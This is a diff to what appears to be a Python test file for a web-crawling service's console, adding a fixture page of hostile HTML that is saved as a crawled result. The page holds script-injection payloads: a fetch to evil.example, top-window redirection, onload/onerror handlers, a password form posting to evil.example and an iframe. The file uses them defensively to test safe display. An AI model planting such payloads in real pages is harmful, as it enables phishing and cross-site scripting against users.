@@ -11,9 +11,12 @@ from werkzeug.test import TestResponse
 from storage.base.ids import target_id
 from storage.base.records import StartedTarget
 from storage.jobs.settlement import Settlement
+from storage.pages.saved_pages import SavedPages
 from tests.control_api.conftest import Tenant
 from tests.control_api.console.conftest import Person
 from tests.control_api.crawling import end_target, fail_target
+from tests.spiders.little_store import product_html
+from tests.spiders.saved.pages import page_of
 
 # In titles, brands, keywords and names of projects.
 HOSTILE = (
@@ -31,6 +34,19 @@ HOSTILE_LINKS = (
     "vbscript:x",
     'https://ok.example/dp/B000000001?a="><script>alert(5)</script>',
 )
+
+
+# As fetched: what it tries must not happen, wherever it is shown.
+HOSTILE_PAGE = """<html><head><title>a shop</title>
+<meta http-equiv="refresh" content="0;url=https://evil.example/refreshed">
+<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
+<style>body { background: url(https://evil.example/x.png) }</style>
+<script>fetch("https://evil.example/script"); parent.document.title = "taken"; top.location = "/console"</script>
+</head><body onload="alert(1)"><img src="https://evil.example/y.png" onerror="alert(2)">
+<form action="https://evil.example/form"><input name="password"><button id="go">Sign in</button></form>
+<a id="out" href="https://evil.example/link" target="_top">out</a>
+<iframe src="https://evil.example/frame"></iframe>
+<h1 id="said">What the shop said</h1></body></html>"""
 
 
 @dataclass(frozen=True)
@@ -81,6 +97,17 @@ def seed(tenant: Tenant, database: Database) -> Seeded:
     fail_target(settlement, failed, 0, code="BLOCKED_THROTTLED")
     cancelled = tenant.make_job(project, targets=["a", "b"])["id"]
     assert tenant.post(f"/jobs/{cancelled}/cancel").status_code == 200
+    searched = dict.fromkeys(
+        ("url", "requested_url"), "https://www.amazon.com/s?k=wireless+earbuds"
+    )
+    places = [(1, position) for position in range(1, 131)]
+    SavedPages(database).keep(
+        [
+            page_of(partial, body=product_html("B000000001"), rows=[(1, 1)]),
+            page_of(running, body=HOSTILE_PAGE.encode(), rows=places, number=2, **searched),
+            page_of(running, body=b"", url=HOSTILE_LINKS[0], requested_url=HOSTILE[1]),
+        ]
+    )
     return Seeded(project, running, partial, failed, cancelled, _hostile(tenant, settlement))
 
 
